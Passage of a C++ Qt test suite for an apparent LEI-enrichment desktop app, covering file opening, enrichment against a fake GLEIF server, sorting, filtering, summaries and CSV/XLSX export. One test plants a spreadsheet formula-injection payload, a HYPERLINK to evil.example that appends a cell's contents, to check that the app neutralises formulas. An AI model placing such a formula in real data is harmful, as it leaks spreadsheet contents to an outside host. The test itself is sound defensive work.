#include "testfiles.h"
#include "xlsxfixture.h"
#include "xlsxreader.h"
#include "appsettings.h"
#include "csvfile.h"
#include "csvtablemodel.h"
#include "enrichmentjob.h"
#include "fakegleif.h"
#include "failuresmodel.h"
#include "detailspanel.h"
#include "mainwindow.h"
#include "ratelimiter.h"

#include <QApplication>
#include <QClipboard>
#include <QHeaderView>
#include <QJsonObject>
#include <QLineEdit>
#include <QTableWidget>
#include <QComboBox>
#include <QDir>
#include <QDockWidget>
#include <QTextBrowser>
#include <QFile>
#include <QInputDialog>
#include <QMenu>
#include <QMenuBar>
#include <QLabel>
#include <QLocale>
#include <QMimeData>
#include <QPushButton>
#include <QSettings>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QStatusBar>
#include <QTableView>
#include <QTemporaryDir>
#include <QMessageBox>
#include <QTest>
#include <QTimer>
#include <QTreeView>
#include <QUrl>

#include <xlsxwriter.h>

class MainWindowTest final : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void opensTheSample();
    void asksForTheLeiColumn();
    void dropOpensFile();
    void unreadableFileShowsMessage();
    void recentFiles();
    void enrichShowsColumnsFailuresAndExports();
    void cancelAndEnrichAgain();
    void sortFilterAndCopy();
    void formulasNeutralisedAndEncodingNoticeShown();
    void geometryAndColumnWidthsAreRemembered();
    void everyActionHasAMnemonicAndAShortcut();
    void fileCutShortOnDiskOffersReload();
    void reEnrichedFileShowsItsColumnsOnce();
    void longRowsNeedAttention();
    void summaryCountsRowsPerWarningCode();
    void summaryTotalsPerCountryAndCurrency();
    void quittingWithAnUnexportedTableAsks();
    void leiColumnCanBeChanged();
    void enrichShortcutWorksInTheFilterBox();
    void detailsShowTheSelectedRowsEntity();
    void parentsAreAskedAboutOverAHundredRequests_data();
    void parentsAreAskedAboutOverAHundredRequests();
    void storedTimeoutOfZeroIsSaid();
    void twoLeiColumnsAreAskedAbout();
    void copyTreatsALongRowsExtraFieldsAsInput_data();
    void copyTreatsALongRowsExtraFieldsAsInput();
    void enrichKeepsTheSort();
    void statusBarSaysOnlyTheOpenFilesState();
    void exportShowsProgressAndCancels_data();
    void exportShowsProgressAndCancels();
    void opensAWorkbookAndEnrichesIt();
    void asksWhichSheetAndShowsTheWholeSheet();

private:
    bool openWithFake(MainWindow &w, const FakeGleif &fake, const QString &path, const QString &cacheName);
    QString write(const QByteArray &bytes, const QString &name) { return writeTestFile(m_dir.path(), name, bytes); }
    QString statusText(MainWindow &w);
    QTemporaryDir m_dir;
};

void MainWindowTest::initTestCase()
{
    QStandardPaths::setTestModeEnabled(true);
    QApplication::setOrganizationName(QStringLiteral("LEI Enricher Tests"));
    QApplication::setApplicationName(QStringLiteral("mainwindow_test"));
    QSettings().clear();
    QVERIFY(m_dir.isValid());
}

QString MainWindowTest::statusText(MainWindow &w)
{
    QString text;
    for (QLabel *label : w.statusBar()->findChildren<QLabel *>())
        text += label->text() + u'\n';
    return text;
}

void MainWindowTest::opensTheSample()
{
    MainWindow w;
    w.show();
    QSignalSpy ready(&w, &MainWindow::fileReady);
    QVERIFY(w.openFile(QStringLiteral(LEI_RESOURCES_DIR "/sample_transactions.csv")));
    QVERIFY(ready.wait(60000));
    QCOMPARE(w.windowTitle(), QStringLiteral("sample_transactions.csv \u2014 LEI Enricher"));
    QCOMPARE(w.tableView()->model()->rowCount(), 20);
    QCOMPARE(w.tableView()->model()->columnCount(), 8);
    QCOMPARE(w.invalidLeiCount(), 0);
    const QString status = statusText(w);
    QVERIFY2(status.contains(QStringLiteral("20 rows")), qPrintable(status));
    QVERIFY2(status.contains(QStringLiteral("8 columns")), qPrintable(status));
    QVERIFY2(status.contains(QStringLiteral("UTF-8")), qPrintable(status));
    QVERIFY2(status.contains(QStringLiteral("comma")), qPrintable(status));
    QVERIFY2(status.contains(QStringLiteral("LEI column: lei")), qPrintable(status));
    QVERIFY2(status.contains(QStringLiteral("0 invalid LEIs")), qPrintable(status));
}

void MainWindowTest::asksForTheLeiColumn()
{
    const QString path = write("id;counterparty\n1;XKZZ2JZF41MRHTR1V493\n2;garbage\n", QStringLiteral("nolei.csv"));
    MainWindow w;
    w.show();
    QSignalSpy ready(&w, &MainWindow::fileReady);
    // Answer the prompt with the second column once it shows.
    bool asked = false;
    QTimer answer;
    answer.setInterval(20);
    connect(&answer, &QTimer::timeout, this, [&] {
        if (auto *dialog = qobject_cast<QInputDialog *>(QApplication::activeModalWidget())) {
            asked = true;
            QCOMPARE(dialog->comboBoxItems(), (QStringList{QStringLiteral("id"), QStringLiteral("counterparty"),
                                                           QStringLiteral("No LEI column: find LEIs by name...")}));
            // Proposed: the column whose cells are valid LEIs, so accepting is enough.
            QCOMPARE(dialog->textValue(), QStringLiteral("counterparty"));
            dialog->accept();
        }
    });
    answer.start();
    QVERIFY(w.openFile(path));
    QVERIFY(ready.wait(60000));
    QVERIFY(asked);
    auto *model = qobject_cast<CsvTableModel *>(w.tableView()->model());
    QCOMPARE(model->leiColumn(), 1);
    QCOMPARE(w.invalidLeiCount(), 1);
    QVERIFY(model->data(model->index(1, 1), CsvTableModel::InvalidLeiRole).toBool());
    QVERIFY(statusText(w).contains(QStringLiteral("semicolon")));
}

void MainWindowTest::dropOpensFile()
{
    const QString path = write("lei\nXKZZ2JZF41MRHTR1V493\n", QStringLiteral("dropped.csv"));
    MainWindow w;
    w.show();
    QSignalSpy ready(&w, &MainWindow::fileReady);
    QMimeData mime;
    mime.setUrls({QUrl::fromLocalFile(path)});
    QDragEnterEvent enter(QPoint(10, 10), Qt::CopyAction, &mime, Qt::LeftButton, Qt::NoModifier);
    QApplication::sendEvent(&w, &enter);
    QVERIFY(enter.isAccepted());
    QDropEvent drop(QPointF(10, 10), Qt::CopyAction, &mime, Qt::LeftButton, Qt::NoModifier);
    QApplication::sendEvent(&w, &drop);
    QVERIFY(ready.wait(60000));
    QCOMPARE(w.windowTitle(), QStringLiteral("dropped.csv \u2014 LEI Enricher"));
    QCOMPARE(w.tableView()->model()->rowCount(), 1);
}

void MainWindowTest::unreadableFileShowsMessage()
{
    MainWindow w;
    w.show();
    QString shown;
    QTimer::singleShot(50, this, [&] {
        if (QWidget *box = QApplication::activeModalWidget()) {
            for (QLabel *label : box->findChildren<QLabel *>())
                shown += label->text();
            box->close();
        }
    });
    QVERIFY(!w.openFile(m_dir.filePath(QStringLiteral("missing.csv"))));
    QVERIFY2(shown.contains(QStringLiteral("missing.csv: no such file")), qPrintable(shown));
}

void MainWindowTest::recentFiles()
{
    const QString path = write("lei\nXKZZ2JZF41MRHTR1V493\n", QStringLiteral("recent.csv"));
    MainWindow w;
    QSignalSpy ready(&w, &MainWindow::fileReady);
    QVERIFY(w.openFile(path));
    QVERIFY(ready.wait(60000));
    const QStringList recent = QSettings().value(QStringLiteral("recentFiles")).toStringList();
    QVERIFY(!recent.isEmpty());
    QCOMPARE(recent.first(), QFileInfo(path).absoluteFilePath());
}

static EnrichmentSettings fakeSettings(const FakeGleif &fake, const QString &cache)
{
    EnrichmentSettings s;
    s.gleif.baseUrl = fake.baseUrl();
    s.gleif.maxAttempts = 2;
    s.gleif.backoffBase = std::chrono::milliseconds(10);
    s.cachePath = cache;
    return s;
}

// Shows the window, points it at the fake and its own cache in the test folder, and opens the
// file: true once the window says the file is ready.
bool MainWindowTest::openWithFake(MainWindow &w, const FakeGleif &fake, const QString &path, const QString &cacheName)
{
    w.show();
    w.setEnrichmentSettings(fakeSettings(fake, m_dir.filePath(cacheName)));
    QSignalSpy ready(&w, &MainWindow::fileReady);
    return w.openFile(path) && ready.wait(60000);
}

// Enriches and waits for the end of the run: true when it ended.
static bool enrichAndWait(MainWindow &w)
{
    QSignalSpy finished(&w, &MainWindow::enrichmentFinished);
    return w.enrich() && finished.wait(60000);
}

void MainWindowTest::enrichShowsColumnsFailuresAndExports()
{
    FakeGleif fake;
    QVERIFY(fake.listen());
    const QString path = write("notional,rate,lei\n763000,0.0070956,XKZZ2JZF41MRHTR1V493\n1,1,BFXS5XCH7N0Y05NIXW12\n"
                               "1000,0,BFXS5XCH7N0Y05NIXW11\n",
                               QStringLiteral("enrich.csv"));
    MainWindow w;
    w.show();
    w.setEnrichmentSettings(fakeSettings(fake, m_dir.filePath(QStringLiteral("gui-cache.sqlite"))));
    QSignalSpy ready(&w, &MainWindow::fileReady);
    QVERIFY(w.openFile(path));
    QVERIFY(ready.wait(60000));
    QSignalSpy finished(&w, &MainWindow::enrichmentFinished);
    QVERIFY(w.enrich());
    QVERIFY(finished.wait(60000));
    QCOMPARE(finished.first().first().toBool(), true);

    // The five columns, filled; the cost is a number, right-aligned.
    QAbstractItemModel *model = w.tableView()->model();
    QCOMPARE(model->columnCount(), 8);
    QCOMPARE(model->headerData(3, Qt::Horizontal).toString(), QStringLiteral("legalName"));
    QCOMPARE(model->headerData(7, Qt::Horizontal).toString(), QStringLiteral("enrichment_status"));
    QCOMPARE(model->index(0, 3).data().toString(), QStringLiteral("CITIGROUP GLOBAL MARKETS LIMITED"));
    QCOMPARE(model->index(0, 6).data(Qt::EditRole).typeId(), QMetaType::Double);
    QCOMPARE(model->index(0, 6).data(Qt::EditRole).toDouble(), -757586.0572);
    QCOMPARE(model->index(0, 6).data().toString(), QLocale().toString(-757586.0572, 'f', 2));
    QCOMPARE(model->index(0, 6).data(Qt::ToolTipRole).toString(), QStringLiteral("-757586.0572"));
    QVERIFY(model->index(0, 6).data(Qt::TextAlignmentRole).value<Qt::Alignment>() & Qt::AlignRight);
    QCOMPARE(model->index(1, 7).data().toString(), QStringLiteral("invalid_lei"));
    QVERIFY(model->index(1, 7).data(Qt::BackgroundRole).isValid()); // tinted, the whole row
    QCOMPARE(model->index(2, 0).data(Qt::BackgroundRole), model->index(2, 7).data(Qt::BackgroundRole));
    QVERIFY(model->index(2, 0).data(Qt::BackgroundRole) != model->index(1, 0).data(Qt::BackgroundRole)); // by status
    QVERIFY(!model->index(0, 0).data(Qt::BackgroundRole).isValid()); // ok rows are not
    QCOMPARE(model->index(2, 7).data().toString(), QStringLiteral("bad_number"));

    // Failures panel: two groups, each row with its reason; activating one selects the row.
    FailuresModel *failures = w.failuresModel();
    QCOMPARE(failures->rowCount(), 2);
    QCOMPARE(failures->failureCount(), 2);
    QVERIFY(w.failuresView()->isVisible());
    QModelIndex badNumber;
    for (int g = 0; g < failures->rowCount(); ++g) {
        const QModelIndex group = failures->index(g, 0);
        if (group.data(FailuresModel::StatusRole).toInt() == int(RowStatus::BadNumber))
            badNumber = failures->index(0, 0, group);
    }
    QVERIFY(badNumber.isValid());
    QCOMPARE(failures->index(badNumber.row(), 2, badNumber.parent()).data().toString(),
             QStringLiteral("rate is 0: division by zero"));
    w.failuresView()->setCurrentIndex(badNumber);
    Q_EMIT w.failuresView()->activated(badNumber);
    QCOMPARE(w.tableView()->currentIndex().row(), 2);

    // The summary: rows per status and the cost total per country and currency.
    auto *summary = w.findChild<QTableWidget *>(QStringLiteral("summaryTable"));
    QVERIFY(summary && summary->isVisible());
    QStringList lines;
    for (int r = 0; r < summary->rowCount(); ++r)
        lines << (summary->item(r, 0) ? summary->item(r, 0)->text() : QString()) + u'|'
                + (summary->item(r, 1) ? summary->item(r, 1)->text() : QString()) + u'|'
                + (summary->item(r, 2) ? summary->item(r, 2)->text() : QString());
    QVERIFY2(lines.contains(QStringLiteral("ok|1|")), qPrintable(lines.join(u'\n')));
    QVERIFY2(lines.contains(QStringLiteral("invalid_lei|1|")), qPrintable(lines.join(u'\n')));
    // No currency column: the total is said to be in an unknown currency, not passed off as one.
    QVERIFY2(lines.contains(QStringLiteral("GB (currency unknown)|1|") + QLocale().toString(-757586.0572, 'f', 2)),
             qPrintable(lines.join(u'\n')));

    // Export both ways, and read the CSV back.
    const QString csv = m_dir.filePath(QStringLiteral("gui.enriched.csv"));
    QVERIFY(w.exportTo(csv));
    QString error;
    auto back = CsvFile::load(csv, {}, &error);
    QVERIFY2(back, qPrintable(error));
    QCOMPARE(back->rowCount(), 3);
    QCOMPARE(back->cell(0, 6), QStringLiteral("-757586.0572"));
    QCOMPARE(back->cell(2, 7), QStringLiteral("bad_number"));
    const QString xlsx = m_dir.filePath(QStringLiteral("gui.enriched.xlsx"));
    QVERIFY(w.exportTo(xlsx));
    const auto zip = readZip(xlsx, &error);
    QVERIFY2(!zip.isEmpty(), qPrintable(error));
    const QByteArray sheet = zip.value(QStringLiteral("xl/worksheets/sheet1.xml"));
    QVERIFY(sheet.contains("<t>CITIGROUP GLOBAL MARKETS LIMITED</t>"));
    QVERIFY(sheet.contains("<v>-757586.0572</v>") || sheet.contains("<v>-757586.05720000004</v>"));
    QVERIFY(zip.value(QStringLiteral("xl/worksheets/sheet2.xml")).contains("<t>rate is 0: division by zero</t>"));

    // A file that cannot be opened leaves the current one as it was.
    QTimer::singleShot(50, this, [] {
        if (QWidget *box = QApplication::activeModalWidget())
            box->close();
    });
    QVERIFY(!w.openFile(m_dir.filePath(QStringLiteral("missing.csv"))));
    QCOMPARE(w.tableView()->model()->rowCount(), 3);
    QCOMPARE(w.tableView()->model()->index(0, 7).data().toString(), QStringLiteral("ok"));

    // Another file: the first file's results are not carried over to it.
    const QString other = write("notional,rate,lei\n5,5,XKZZ2JZF41MRHTR1V493\n", QStringLiteral("other.csv"));
    QVERIFY(w.openFile(other));
    QVERIFY(ready.wait(60000));
    QCOMPARE(w.tableView()->model()->columnCount(), 3);
    QCOMPARE(w.failuresModel()->rowCount(), 0);
    const QString otherOut = m_dir.filePath(QStringLiteral("other.enriched.csv"));
    QVERIFY(w.exportTo(otherOut));
    QCOMPARE(readTestFile(otherOut), QByteArray("notional,rate,lei,legalName,bic,country,transaction_costs,enrichment_status\n"
                                                "5,5,XKZZ2JZF41MRHTR1V493,,,,,pending\n"));
}

void MainWindowTest::cancelAndEnrichAgain()
{
    FakeGleif::Options o;
    o.latencyMs = 300;
    FakeGleif fake(o);
    QVERIFY(fake.listen());
    MainWindow w;
    w.show();
    EnrichmentSettings s = fakeSettings(fake, m_dir.filePath(QStringLiteral("gui-cancel.sqlite")));
    s.gleif.batchSize = 2;
    s.gleif.concurrency = 1;
    w.setEnrichmentSettings(s);
    QSignalSpy ready(&w, &MainWindow::fileReady);
    QVERIFY(w.openFile(QStringLiteral(LEI_RESOURCES_DIR "/sample_transactions.csv")));
    QVERIFY(ready.wait(60000));
    QSignalSpy finished(&w, &MainWindow::enrichmentFinished);
    QVERIFY(w.enrich());
    QTRY_VERIFY_WITH_TIMEOUT(w.job()->progress().resolved >= 2, 60000);
    QVERIFY(!w.enrich()); // not twice at once
    w.cancelEnrichment();
    QCOMPARE(finished.size(), 1);
    QCOMPARE(finished.first().first().toBool(), false);
    const qint64 pending = w.job()->results()->countOf(RowStatus::Pending);
    QVERIFY(pending > 0);
    QCOMPARE(w.failuresModel()->failureCount(), pending); // pending rows are listed
    // Enrich again resumes from the cache: everything ok, fewer requests than a cold run.
    QVERIFY(w.enrich());
    QVERIFY(finished.wait(60000));
    QCOMPARE(w.job()->results()->countOf(RowStatus::Ok), 20);
    QVERIFY(w.job()->progress().fromCache >= 2);
    QCOMPARE(w.failuresModel()->failureCount(), 0);
}

void MainWindowTest::sortFilterAndCopy()
{
    FakeGleif fake;
    QVERIFY(fake.listen());
    const QString path = write("name,notional,rate,lei\n"
                               "beta,10,1,XKZZ2JZF41MRHTR1V493\n"
                               "Alpha,9,1,BFXS5XCH7N0Y05NIXW11\n"
                               "gamma,,1,nonsense\n"
                               "delta,1e3,0,BFXS5XCH7N0Y05NIXW11\n",
                               QStringLiteral("sort.csv"));
    MainWindow w;
    QVERIFY(openWithFake(w, fake, path, QStringLiteral("sort.sqlite")));
    QAbstractItemModel *model = w.tableView()->model();
    auto column = [&](int c) {
        QStringList out;
        for (int r = 0; r < model->rowCount(); ++r)
            out << model->index(r, c).data(Qt::EditRole).toString();
        return out;
    };

    // Numbers sort as numbers (9 < 10 < 1e3), empty cells last.
    w.sortBy(1, Qt::AscendingOrder);
    QCOMPARE(column(1), (QStringList{QStringLiteral("9"), QStringLiteral("10"), QStringLiteral("1e3"), QString()}));
    QCOMPARE(model->headerData(0, Qt::Vertical).toInt(), 2); // the file's row number stays
    w.sortBy(1, Qt::DescendingOrder);
    QCOMPARE(column(1), (QStringList{QStringLiteral("1e3"), QStringLiteral("10"), QStringLiteral("9"), QString()}));
    // Text sorts case-insensitively.
    QTest::mouseClick(w.tableView()->horizontalHeader()->viewport(), Qt::LeftButton, {},
                      QPoint(w.tableView()->horizontalHeader()->sectionViewportPosition(0) + 5, 5));
    QCOMPARE(column(0), (QStringList{QStringLiteral("Alpha"), QStringLiteral("beta"), QStringLiteral("delta"), QStringLiteral("gamma")}));

    // Filter by text, combined with the sort.
    w.filterBox()->setText(QStringLiteral("BFXS5"));
    QSignalSpy reordered(&w, &MainWindow::rowOrderChanged);
    QVERIFY(reordered.wait(60000));
    QCOMPARE(column(0), (QStringList{QStringLiteral("Alpha"), QStringLiteral("delta")}));

    // After enriching: filter by status, and the failures panel still finds a filtered-out row.
    QVERIFY(enrichAndWait(w));
    w.filterBox()->setText(QStringLiteral("status is bad_number"));
    QVERIFY(reordered.wait(60000));
    QCOMPARE(column(0), QStringList{QStringLiteral("delta")});
    w.filterBox()->setText(QStringLiteral("status: ok"));
    QVERIFY(reordered.wait(60000));
    QCOMPARE(model->rowCount(), 2);
    // Export: all rows by default, or the rows as shown (filtered and sorted) when chosen.
    const QString all = m_dir.filePath(QStringLiteral("sortfilter.all.csv"));
    const QString shown = m_dir.filePath(QStringLiteral("sortfilter.shown.csv"));
    QVERIFY(w.exportTo(all));
    QVERIFY(w.exportTo(shown, true));
    QCOMPARE(readTestFile(all).trimmed().split('\n').size(), 1 + 4);
    const QList<QByteArray> shownLines = readTestFile(shown).trimmed().split('\n');
    QCOMPARE(shownLines.size(), 1 + 2);
    QCOMPARE(QString::fromUtf8(shownLines.at(1)).section(u',', 0, 0), model->index(0, 0).data().toString());
    QCOMPARE(QString::fromUtf8(shownLines.at(2)).section(u',', 0, 0), model->index(1, 0).data().toString());
    const QModelIndex invalidGroup = w.failuresModel()->index(0, 0);
    QCOMPARE(invalidGroup.data(FailuresModel::StatusRole).toInt(), int(RowStatus::InvalidLei));
    Q_EMIT w.failuresView()->activated(w.failuresModel()->index(0, 0, invalidGroup));
    QVERIFY(w.filterBox()->text().isEmpty());
    QCOMPARE(model->index(w.tableView()->currentIndex().row(), 0).data().toString(), QStringLiteral("gamma"));

    // Copy: the selected cells as tab-separated text.
    w.tableView()->clearSelection();
    w.tableView()->selectionModel()->select(QItemSelection(model->index(0, 0), model->index(1, 1)),
                                            QItemSelectionModel::Select);
    w.copySelection();
    QCOMPARE(QGuiApplication::clipboard()->text(),
             model->index(0, 0).data().toString() + u'\t' + model->index(0, 1).data(Qt::EditRole).toString() + u'\n'
                 + model->index(1, 0).data().toString() + u'\t' + model->index(1, 1).data(Qt::EditRole).toString() + u'\n');
}

void MainWindowTest::formulasNeutralisedAndEncodingNoticeShown()
{
    FakeGleif fake;
    QVERIFY(fake.listen());
    auto setName = [&](const QString &lei, const QString &name) {
        QJsonObject record = fake.record(lei), attributes = record[u"attributes"].toObject(),
                    entity = attributes[u"entity"].toObject();
        entity[u"legalName"] = QJsonObject{{QStringLiteral("name"), name}};
        attributes[u"entity"] = entity;
        record[u"attributes"] = attributes;
        fake.addRecord(record);
    };
    const QString evil = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A2)");
    setName(QStringLiteral("XKZZ2JZF41MRHTR1V493"), evil);
    setName(QStringLiteral("851WYGNLUQLFZBSYGB56"), QStringLiteral("Sp\u00f3\u0142ka"));
    // Windows-1252 (\xf6 is not UTF-8); the second legal name does not fit it.
    const QString path = write("n\xf6te,notional,rate,lei\n=1+2,763000,0.0070956,XKZZ2JZF41MRHTR1V493\nx,1,1,851WYGNLUQLFZBSYGB56\n",
                               QStringLiteral("formulas.csv"));
    MainWindow w;
    QVERIFY(openWithFake(w, fake, path, QStringLiteral("formulas.sqlite")));
    QVERIFY(enrichAndWait(w));
    QAbstractItemModel *model = w.tableView()->model();
    QCOMPARE(model->index(0, 4).data().toString(), evil); // shown as it is

    auto copyRow = [&] {
        w.tableView()->clearSelection();
        w.tableView()->selectionModel()->select(QItemSelection(model->index(0, 0), model->index(0, 8)), QItemSelectionModel::Select);
        w.copySelection();
        return QGuiApplication::clipboard()->text();
    };
    // GLEIF's text gets its ', the cost does not, the file's own cells only with the setting.
    QCOMPARE(copyRow(), QStringLiteral("=1+2\t763000\t0.0070956\tXKZZ2JZF41MRHTR1V493\t'") + evil
                            + QStringLiteral("\tSBILGB2LXXX\tGB\t-757586.0572\tok\n"));
    AppSettings settings = w.settings();
    QVERIFY(!settings.neutraliseFormulas); // off by default
    settings.neutraliseFormulas = true;
    w.setSettings(settings);
    QVERIFY(copyRow().startsWith(QStringLiteral("'=1+2\t763000\t")));

    // The export does the same, and says that the file went out in UTF-8.
    const QString csv = m_dir.filePath(QStringLiteral("formulas.out.csv"));
    QVERIFY(w.exportTo(csv));
    const QByteArray bytes = readTestFile(csv);
    QVERIFY2(bytes.startsWith("\xEF\xBB\xBFn\xC3\xB6te,"), bytes.constData());
    QVERIFY(bytes.contains("\n'=1+2,763000,0.0070956,XKZZ2JZF41MRHTR1V493,\"'=HYPERLINK("));
    QVERIFY(bytes.contains(",Sp\xC3\xB3\xC5\x82ka,"));
    QVERIFY2(w.statusBar()->currentMessage().contains(QStringLiteral("UTF-8")), qPrintable(w.statusBar()->currentMessage()));
    settings.neutraliseFormulas = false;
    w.setSettings(settings);
}

void MainWindowTest::geometryAndColumnWidthsAreRemembered()
{
    const QString path = write("first,second,lei\n1,2,XKZZ2JZF41MRHTR1V493\n", QStringLiteral("widths.csv"));
    {
        MainWindow w;
        w.show();
        QSignalSpy ready(&w, &MainWindow::fileReady);
        QVERIFY(w.openFile(path));
        QVERIFY(ready.wait(60000));
        w.resize(900, 555);
        w.tableView()->horizontalHeader()->resizeSection(1, 333);
        w.close();
    }
    MainWindow again;
    again.show();
    QTRY_COMPARE_WITH_TIMEOUT(again.size(), QSize(900, 555), 60000);
    QSignalSpy ready(&again, &MainWindow::fileReady);
    QVERIFY(again.openFile(path));
    QVERIFY(ready.wait(60000));
    QTRY_COMPARE_WITH_TIMEOUT(again.tableView()->horizontalHeader()->sectionSize(1), 333, 60000);
}

void MainWindowTest::everyActionHasAMnemonicAndAShortcut()
{
    MainWindow w;
    QStringList missing;
    for (QAction *menuAction : w.menuBar()->actions()) {
        if (!menuAction->text().contains(u'&'))
            missing << menuAction->text() + QStringLiteral(" (menu without mnemonic)");
        for (QAction *a : menuAction->menu()->actions()) {
            if (a->isSeparator())
                continue;
            if (!a->text().contains(u'&'))
                missing << a->text() + QStringLiteral(" (no mnemonic)");
            if (!a->menu() && a->shortcut().isEmpty()) // a submenu (Open Recent) has no shortcut
                missing << a->text() + QStringLiteral(" (no shortcut)");
        }
    }
    QVERIFY2(missing.isEmpty(), qPrintable(missing.join(QStringLiteral(", "))));
}

void MainWindowTest::fileCutShortOnDiskOffersReload()
{
    QByteArray bytes("id,lei\n");
    for (int i = 0; i < 20000; ++i)
        bytes += QByteArray::number(i) + ",XKZZ2JZF41MRHTR1V493\n";
    const QString path = write(bytes, QStringLiteral("shown.csv"));
    MainWindow w;
    w.show();
    QSignalSpy ready(&w, &MainWindow::fileReady);
    QVERIFY(w.openFile(path));
    QVERIFY(ready.wait(60000));
    auto *bar = w.findChild<QWidget *>(QStringLiteral("fileChangedBar"));
    QVERIFY(bar && bar->isHidden());
    write("id,lei\n1,XKZZ2JZF41MRHTR1V493\n2,x\n", QStringLiteral("shown.csv")); // cp new.csv shown.csv
    // Rows past the new end read as zeros instead of killing the window with SIGBUS.
    QAbstractItemModel *model = w.tableView()->model();
    QCOMPARE(model->index(19999, 0).data().toString().isNull(), false);
    w.tableView()->scrollToBottom();
    QTRY_VERIFY_WITH_TIMEOUT(!bar->isHidden(), 60000);
    auto *reload = bar->findChild<QPushButton *>(QStringLiteral("reloadButton"));
    QVERIFY(reload);
    reload->click();
    QVERIFY(ready.wait(60000));
    QCOMPARE(model->rowCount(), 2);
    QVERIFY(bar->isHidden());
}

void MainWindowTest::reEnrichedFileShowsItsColumnsOnce()
{
    FakeGleif fake;
    QVERIFY(fake.listen());
    const QString path = m_dir.filePath(QStringLiteral("again.csv"));
    QVERIFY(QFile::copy(QStringLiteral(LEI_TEST_DATA_DIR "/sample_transactions.expected.csv"), path));
    MainWindow w;
    QVERIFY(openWithFake(w, fake, path, QStringLiteral("again-cache.sqlite")));
    QCOMPARE(w.tableView()->model()->columnCount(), 8);
    QVERIFY2(statusText(w).contains(QStringLiteral("8 columns")), qPrintable(statusText(w)));
    QVERIFY2(statusText(w).contains(QStringLiteral("LEI column: lei")), qPrintable(statusText(w)));
    QVERIFY2(statusText(w).contains(QStringLiteral("previous enrichment columns replaced")), qPrintable(statusText(w)));
    QVERIFY(enrichAndWait(w));
    QCOMPARE(w.tableView()->model()->columnCount(), 13);
    QCOMPARE(w.tableView()->model()->headerData(8, Qt::Horizontal).toString(), QStringLiteral("legalName"));
    QVERIFY(w.job()->notices().join(u'\n').contains(QStringLiteral("previous enrichment columns replaced")));
    const QString out = m_dir.filePath(QStringLiteral("again.enriched.csv"));
    QVERIFY(w.exportTo(out));
    QCOMPARE(readTestFile(out), readTestFile(QStringLiteral(LEI_TEST_DATA_DIR "/sample_transactions.expected.csv")));
}

void MainWindowTest::longRowsNeedAttention()
{
    FakeGleif fake;
    QVERIFY(fake.listen());
    const QString path = write("notional,rate,lei\n763000,0.0070956,XKZZ2JZF41MRHTR1V493\n"
                               "763000,0.0070956,XKZZ2JZF41MRHTR1V493,surplus\n",
                               QStringLiteral("long.csv"));
    MainWindow w;
    QVERIFY(openWithFake(w, fake, path, QStringLiteral("long-cache.sqlite")));
    QVERIFY(enrichAndWait(w));
    QAbstractItemModel *model = w.tableView()->model();
    QCOMPARE(model->columnCount(), 9); // three, five added, one extra
    QCOMPARE(model->index(1, 7).data().toString(), QStringLiteral("ok"));
    QCOMPARE(model->index(1, 8).data().toString(), QStringLiteral("surplus"));
    // Every row is ok, yet the panel shows the row that needs attention, and leads to it.
    FailuresModel *failures = w.failuresModel();
    QCOMPARE(failures->failureCount(), 0);
    QCOMPARE(failures->warningCount(), 1);
    QVERIFY(w.failuresView()->isVisible());
    const QModelIndex entry = failures->index(0, 0, failures->index(0, 0));
    QCOMPARE(entry.data(FailuresModel::RowRole).toLongLong(), 1);
    Q_EMIT w.failuresView()->activated(entry);
    QCOMPARE(w.tableView()->currentIndex().row(), 1);
    // The run's summary says so too, and keeps the run's notices (the fake is plain http).
    const QString summary = w.statusBar()->currentMessage();
    QVERIFY2(summary.contains(QStringLiteral("1 row(s) need attention")) || summary.contains(QStringLiteral("1 row needs attention")), qPrintable(summary));
    QVERIFY2(summary.contains(QStringLiteral("plain http")), qPrintable(summary));
}

void MainWindowTest::summaryCountsRowsPerWarningCode()
{
    // LEI health codes: each its own group in the failures panel, and rows per code (successor
    // for every successor:LEI) in the summary; every row stays ok.
    FakeGleif fake;
    FakeGleif::Options o;
    o.syntheticEntities = 8;
    o.healthVariety = true;
    fake.setOptions(o);
    QVERIFY(fake.listen());
    QByteArray csv = "notional,rate,lei\n";
    for (int i : {1, 1, 3, 6, 0})
        csv += "1000,0.01," + FakeGleif::syntheticLei(i).toLatin1() + "\n";
    const QString path = write(csv, QStringLiteral("health.csv"));
    MainWindow w;
    QVERIFY(openWithFake(w, fake, path, QStringLiteral("health-cache.sqlite")));
    QVERIFY(enrichAndWait(w));
    FailuresModel *failures = w.failuresModel();
    QCOMPARE(failures->failureCount(), 0);
    QCOMPARE(failures->warningCount(), 4);
    QVERIFY(w.failuresView()->isVisible());
    auto *summary = w.findChild<QTableWidget *>(QStringLiteral("summaryTable"));
    QVERIFY(summary && summary->isVisible());
    QStringList lines;
    for (int r = 0; r < summary->rowCount(); ++r)
        lines << (summary->item(r, 0) ? summary->item(r, 0)->text() : QString()) + u'|'
                + (summary->item(r, 1) ? summary->item(r, 1)->text() : QString());
    const QString all = lines.join(u'\n');
    QVERIFY2(lines.contains(QStringLiteral("ok|5")), qPrintable(all));
    QVERIFY2(lines.contains(QStringLiteral("lapsed|2")), qPrintable(all));
    QVERIFY2(lines.contains(QStringLiteral("merged|1")), qPrintable(all));
    QVERIFY2(lines.contains(QStringLiteral("annulled|1")), qPrintable(all));
    QVERIFY2(lines.contains(QStringLiteral("successor|2")), qPrintable(all));
    QVERIFY2(lines.indexOf(QStringLiteral("lapsed|2")) < lines.indexOf(QStringLiteral("successor|2")), qPrintable(all));
}

void MainWindowTest::summaryTotalsPerCountryAndCurrency()
{
    // The sample's GB rows are in GBP and in EUR: two totals, never one sum across currencies.
    FakeGleif fake;
    QVERIFY(fake.listen());
    MainWindow w;
    w.show();
    w.setEnrichmentSettings(fakeSettings(fake, m_dir.filePath(QStringLiteral("currency-cache.sqlite"))));
    QSignalSpy ready(&w, &MainWindow::fileReady);
    QVERIFY(w.openFile(QStringLiteral(LEI_RESOURCES_DIR "/sample_transactions.csv")));
    QVERIFY(ready.wait(60000));
    QVERIFY(enrichAndWait(w));
    auto *summary = w.findChild<QTableWidget *>(QStringLiteral("summaryTable"));
    QVERIFY(summary);
    QStringList lines;
    for (int r = 0; r < summary->rowCount(); ++r)
        lines << (summary->item(r, 0) ? summary->item(r, 0)->text() : QString()) + u'|'
                + (summary->item(r, 1) ? summary->item(r, 1)->text() : QString());
    const QString all = lines.join(u'\n');
    QVERIFY2(lines.contains(QStringLiteral("GB EUR|2")), qPrintable(all));
    QVERIFY2(lines.contains(QStringLiteral("GB GBP|10")), qPrintable(all));
